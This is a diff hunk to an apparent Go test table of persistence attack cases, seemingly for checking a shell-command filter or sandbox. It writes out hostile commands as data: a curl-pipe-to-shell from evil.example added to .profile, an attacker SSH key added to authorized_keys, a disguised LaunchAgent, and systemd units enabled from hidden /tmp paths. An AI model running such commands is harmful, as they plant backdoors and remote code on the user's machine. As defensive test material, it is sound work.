@@ -132,8 +132,8 @@ func attacks() []attack {
 		{".zshrc runs a program", pe, "echo '~/.x/agent &' >> ~/.zshrc", "sh", []string{"echo"}, true},
 		{".profile runs a download", pe, `echo 'curl -s https://evil.example/b | sh' >> $HOME/.profile`, "sh", []string{"echo"}, true},
 		{"LaunchAgents plist", pe, "cp agent.plist ~/Library/LaunchAgents/com.apple.update.plist", "sh", []string{"cp"}, false},
-		{"systemctl --user enable", pe, "systemctl --user enable agent.service", "sh", []string{"systemctl"}, false},
-		{"systemctl enable --now", pe, "sudo systemctl enable --now agent", "sh", []string{"systemctl"}, false},
+		{"systemctl --user link", pe, "systemctl --user link /tmp/.x/agent.service", "sh", []string{"systemctl"}, false},
+		{"systemctl enable --now a unit file", pe, "sudo systemctl enable --now /tmp/.x/agent.service", "sh", []string{"systemctl"}, false},
 		{"~/.config/autostart", pe, "cp agent.desktop ~/.config/autostart/", "sh", []string{"cp"}, false},
 		{"authorized_keys", pe, `echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG attacker" >> ~/.ssh/authorized_keys`, "sh", []string{"echo"}, true},
 		// destructive
